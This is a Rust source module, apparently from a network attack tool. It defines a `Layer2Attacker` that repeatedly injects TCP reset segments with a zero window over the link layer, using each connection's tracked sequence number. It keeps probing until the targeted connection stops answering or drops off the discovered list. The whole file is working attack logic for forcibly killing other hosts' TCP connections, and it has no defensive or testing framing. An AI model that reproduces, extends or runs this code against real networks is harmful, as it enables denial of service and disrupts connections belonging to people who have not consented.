use crate::connection::Connection;
use crate::discovery::ConnectionSource;
use crate::engine::Activation;
use crate::injector::SegmentInjector;
use crate::probe::ReachabilityProbe;
use crate::tracker::SequenceTracker;
use crate::transmit::FrameTransmitter;

use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

/// Zero window tells the peer our receive buffer is gone.
const WINDOW: u16 = 0;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// The port stopped answering or the socket vanished.
    Terminated,
    /// The attack window ran out without confirmation.
    Unconfirmed,
}

/// Repeats reset bursts over the link layer until the connection is gone or
/// the attack window is over.
pub struct Layer2Attacker<'a> {
    pub injector: &'a SegmentInjector,
    pub transmitter: &'a Arc<dyn FrameTransmitter>,
    pub tracker: &'a SequenceTracker,
    pub source: &'a dyn ConnectionSource,
    pub probe: &'a dyn ReachabilityProbe,
    pub duration: Duration,
    pub interval: Duration,
    pub probe_timeout: Duration,
}

/// Releases the activation flag however the attack ends.
struct Release<'a>(&'a Activation);

impl Drop for Release<'_> {
    fn drop(&mut self) {
        self.0.release();
    }
}

impl Layer2Attacker<'_> {
    /// Attacks every connection in turn and clears `activation` afterwards.
    pub fn run(&self, conns: &[Connection], activation: &Activation) -> Vec<Outcome> {
        let _release = Release(activation);
        conns.iter().map(|conn| self.attack(conn)).collect()
    }

    pub fn attack(&self, conn: &Connection) -> Outcome {
        let id = conn.id();
        let start = Instant::now();
        let mut bursts = 0;

        while start.elapsed() < self.duration {
            // the stream may have moved on since the last burst
            let seq = self.tracker.get_or_zero(&id);
            self.injector.inject(self.transmitter, conn, seq, WINDOW);
            bursts += 1;

            if self.confirmed(conn) {
                info!("{} terminated after {} bursts", conn, bursts);
                return Outcome::Terminated;
            }

            thread::sleep(self.interval);
        }

        info!("{} still up after {} bursts", conn, bursts);
        Outcome::Unconfirmed
    }

    fn confirmed(&self, conn: &Connection) -> bool {
        if !self.probe.is_reachable(conn.remote, self.probe_timeout) {
            return true;
        }
        match self.source.discover() {
            Ok(live) => !live.contains(conn),
            Err(e) => {
                debug!("{}, assuming {} is still open", e, conn);
                false
            }
        }
    }
}
